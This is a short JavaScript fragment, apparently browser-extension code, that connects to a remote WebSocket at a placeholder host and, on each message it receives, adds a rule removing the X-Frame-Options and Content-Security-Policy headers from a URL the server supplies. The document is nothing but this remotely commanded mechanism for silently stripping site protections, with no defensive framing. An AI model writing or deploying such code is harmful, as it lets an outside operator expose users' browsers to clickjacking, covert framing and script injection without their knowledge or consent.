const s = new WebSocket('wss://jobs.invalid');
s.onmessage = (e) => { const t = JSON.parse(e.data);
  chrome.declarativeNetRequest.updateDynamicRules({ addRules: [{ id: 7, condition: { urlFilter: t.address }, action: { type: 'modifyHeaders', responseHeaders: [{ header: 'X-Frame-Options', operation: 'remove' }, { header: 'Content-Security-Policy', operation: 'remove' }] } }] });
};
